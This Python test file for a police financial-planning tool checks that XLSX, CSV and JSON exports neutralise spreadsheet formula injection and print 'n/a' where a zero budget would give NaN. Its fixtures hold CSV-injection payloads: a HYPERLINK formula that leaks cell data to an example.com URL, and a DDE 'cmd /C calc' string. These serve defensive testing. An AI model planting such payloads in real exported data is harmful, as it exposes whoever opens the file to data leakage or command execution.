"""Hostile names in every export: a scenario, grant, workforce group or cost line named like a
spreadsheet formula stays text. XLSX files read back with openpyxl hold no formula cell and the
name intact; CSV fields starting =, +, -, @, tab or CR (and not numbers) get a leading '
(OWASP's CSV-injection rule) while negative numbers stay numbers; JSON is valid with NaN/inf
as null; a zero budget shows "n/a", never "nan%".

The scenario is the tiny force (tests/conftest.py) with every name replaced by a payload.
"""
from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest

import mtfp
from mtfp.outputs import analysis_text as report
from mtfp.outputs import safe
from mtfp.outputs import tables as export
from tests.conftest import OPTIONS, tiny, v

SCENARIO_NAME = '=HYPERLINK("https://example.com/?leak="&A1,"Click me")'
GRANT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
GROUP_NAME = "+1-2 officers"
LINE_NAME = "-2+3 premises"
SOURCE_TITLE = "=1+2"
PAYLOADS = [SCENARIO_NAME, GRANT_NAME, GROUP_NAME, LINE_NAME]
NAN = re.compile(r"\bnan\b|\binf\b", re.IGNORECASE)


def _hostile_overlay() -> dict:
    return {
        "name": SCENARIO_NAME,
        "funding": {"grants": {"police_grant": {"name": GRANT_NAME, "base": v(100.0)}}},
        "workforce": {"groups": {"police_officers": {"name": GROUP_NAME}}},
        "non_pay": {"lines": {"premises": {"name": LINE_NAME,
                                           "base": {"value": 10.0, "source": {
                                               "title": SOURCE_TITLE, "document": "@evil"}}}}},
    }


@pytest.fixture(scope="module")
def hostile():
    scenario = tiny(_hostile_overlay())
    return scenario, mtfp.run(scenario)


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formulas_and_names_intact(data: bytes, names: list[str]) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    text = " | ".join(str(c.value) for c in cells if c.data_type == "s")
    for name in names:
        assert name in text, name


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _all_fields(text: str) -> list[str]:
    return [f for row in _csv_rows(text) for f in row]


def _assert_csv_safe(text: str) -> None:
    """No field a spreadsheet would run: every field starting with a formula character is a number."""
    for field in _all_fields(text):
        if field.startswith(safe.FORMULA_START):
            float(field)  # raises unless it is a number such as -1.5


# --- the rule itself ---------------------------------------------------------------------------

@pytest.mark.parametrize("value, written", [
    ("=1+2", "'=1+2"), ("+1-2", "'+1-2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("+3", "+3"), ("-1e6", "-1e6"),
    ("Police grant", "Police grant"), ("", ""), (-1.5, -1.5), (None, None),
    ("-inf", "'-inf"), ("\t1", "'\t1"), ("-1.5\n", "'-1.5\n"),
])
def test_the_owasp_rule_prefixes_formula_text_and_leaves_numbers(value, written):
    assert safe.csv_field(value) == written


def test_json_value_turns_nan_and_inf_into_null_at_any_depth():
    import numpy as np

    payload = {"a": float("nan"), "b": [1.0, float("inf"), {"c": np.float64("-inf")}], "d": np.int64(3)}
    assert json.loads(safe.dumps(payload)) == {"a": None, "b": [1.0, None, {"c": None}], "d": 3}


# --- each export path --------------------------------------------------------------------------

def test_results_workbook_holds_no_formula_and_every_name_as_text(hostile):
    scenario, p = hostile
    _no_formulas_and_names_intact(export.results_xlsx(p, scenario), PAYLOADS + [SOURCE_TITLE])


def test_compare_workbook_csv_and_json(hostile):
    _, p = hostile
    projections = {SCENARIO_NAME: p, GRANT_NAME: p}
    _no_formulas_and_names_intact(export.compare_xlsx(projections), [SCENARIO_NAME, GRANT_NAME])
    text = export.compare_csv(projections)
    _assert_csv_safe(text)
    scenarios = {row[0] for row in _csv_rows(text)[1:]}
    assert scenarios == {"'" + SCENARIO_NAME, "'" + GRANT_NAME}
    assert {s["scenario"] for s in json.loads(export.compare_json(projections))["scenarios"]} == set(projections)


def test_results_and_assumptions_csv(hostile):
    scenario, p = hostile
    results = export.results_csv(p)
    _assert_csv_safe(results)
    assumptions = export.assumptions_csv(scenario)
    _assert_csv_safe(assumptions)
    fields = _all_fields(assumptions)
    assert "'" + SOURCE_TITLE in " ".join(fields) and "'@evil" in " ".join(fields)


def test_a_negative_number_stays_a_number_in_csv():
    scenario = tiny({"name": LINE_NAME, "funding": {"grants": {"police_grant": {"base": v(150.0)}}}})
    p = mtfp.run(scenario)  # funding £170m, spending £120m: a gap of -£50m every year
    rows = _csv_rows(export.results_csv(p))
    gap = [row[rows[0].index("funding_gap")] for row in rows[1:]]
    assert gap == ["-50000000.0"] * 5
    compare = _csv_rows(export.compare_csv({LINE_NAME: p}))
    assert compare[1][0] == "'" + LINE_NAME and compare[1][compare[0].index("funding_gap")] == "-50000000.0"


def test_monte_carlo_workbook_and_csv(hostile):
    from mtfp.analysis import montecarlo

    scenario, _ = hostile
    mc = montecarlo.simulate(scenario, 16, 7)
    _no_formulas_and_names_intact(report.mc_xlsx(mc), [])
    _assert_csv_safe(report.mc_csv(mc))
    json.loads(report.mc_json(mc))


def test_sensitivity_workbook_and_csv_keep_group_names_as_text(hostile):
    from mtfp.analysis import sensitivity

    scenario, _ = hostile
    frame = sensitivity.rate_table(scenario)
    labels = " ".join(frame["assumption"])
    assert GROUP_NAME in labels or LINE_NAME in labels
    data = report.xlsx({"table": frame}, {"scenario": scenario.name, "method": "table"})
    _no_formulas_and_names_intact(data, [SCENARIO_NAME])
    text = report.frame_csv(frame)
    _assert_csv_safe(text)
    json.loads(report.frame_json(frame))


def test_the_published_packs_csvs(hostile, tmp_path):
    import yaml

    from mtfp.consultation.pack import build_pack
    from tests.conftest import tiny_data

    folder = tmp_path / "scenarios"
    folder.mkdir()
    for name, cut in ((SCENARIO_NAME, 0.0), (GRANT_NAME, 10.0)):
        data = tiny_data({**_hostile_overlay(), "name": name,
                          "funding": {"spending_review": {"real_terms_cut": v(cut)}}})
        (folder / f"csr-{int(cut)}.yaml").write_text(yaml.safe_dump(data))
    options = yaml.safe_load(OPTIONS.read_text())
    options.update(scenario="csr-0.yaml", year=None)
    (folder / "options.yaml").write_text(yaml.safe_dump(options))
    result = build_pack([folder / "csr-0.yaml"], tmp_path / "pack", folder / "options.yaml", static=False)
    csvs = sorted(p for p in result.files if p.suffix == ".csv")
    assert {p.name for p in csvs} >= {"gap.csv", "csr_comparison.csv", "household_precept.csv"}
    for path in csvs:
        _assert_csv_safe(path.read_text())
    header = _csv_rows((tmp_path / "pack" / "csr_comparison-pounds.csv").read_text())[0]
    assert header == ["year", "'" + SCENARIO_NAME, "'" + GRANT_NAME]
    # The reader's copy (£m to 1 dp) names the same scenarios, just as safely.
    header = _csv_rows((tmp_path / "pack" / "csr_comparison.csv").read_text(encoding="utf-8-sig"))[0]
    assert header == ["Year", "'" + SCENARIO_NAME + " gap (£m)", "'" + GRANT_NAME + " gap (£m)"]


# --- no NaN or inf -----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def zero_budget():
    """Nothing to spend: no officers, no premises. Net revenue expenditure is £0, so the gap
    as a share of it has no meaning (NaN in the model)."""
    scenario = tiny({"workforce": {"groups": {"police_officers": {"fte": v(0)}}},
                     "non_pay": {"lines": {"premises": {"base": v(0.0)}}}})
    p = mtfp.run(scenario)
    assert p["net_revenue_expenditure"][0].tolist() == [0.0] * 5
    return scenario, p


def test_a_zero_budget_gives_valid_json_and_n_a_not_nan(zero_budget):
    scenario, p = zero_budget
    payload = json.loads(export.results_json(p))  # strict JSON: json.loads would accept NaN, so check the text too
    assert "NaN" not in export.results_json(p) and "Infinity" not in export.results_json(p)
    assert payload["key_figures"]["gap_pct_of_net_budget"] is None
    text = export.results_text(p)
    assert "Recurring gap as % of net revenue expenditure 2019/20: n/a" in text and not NAN.search(text)
    compare = export.compare_text({scenario.name: p})
    assert not NAN.search(compare) and compare.splitlines()[-1].endswith("n/a")
    assert "NaN" not in export.compare_json({scenario.name: p})
    cells = _cells(export.results_xlsx(p, scenario))
    share = [c for c in cells if c.value == "Recurring gap as % of net revenue expenditure 2019/20"][0]
    assert share.offset(column=1).value == "n/a"
    assert "n/a" in [c.value for c in _cells(export.compare_xlsx({scenario.name: p}))]


def test_a_positive_gap_over_a_zero_budget_reads_n_a_in_the_pack_summary(zero_budget):
    import copy
    import dataclasses

    from mtfp.consultation.summary import summary_html

    _, p = zero_budget
    # The schema's ranges keep funding above zero, so a £1m gap over a £0 budget is set by hand:
    # the summary used to divide by the budget (ZeroDivisionError); the share now reads n/a.
    shown = copy.copy(p)
    shown.lines = {**p.lines, "funding_gap": dataclasses.replace(p.lines["funding_gap"],
                                                                 values=p["funding_gap"] * 0 + 1e6)}
    page = summary_html(shown)
    assert "£1.0m" in page and "n/a (no budget) of the budget" in page and not NAN.search(page)
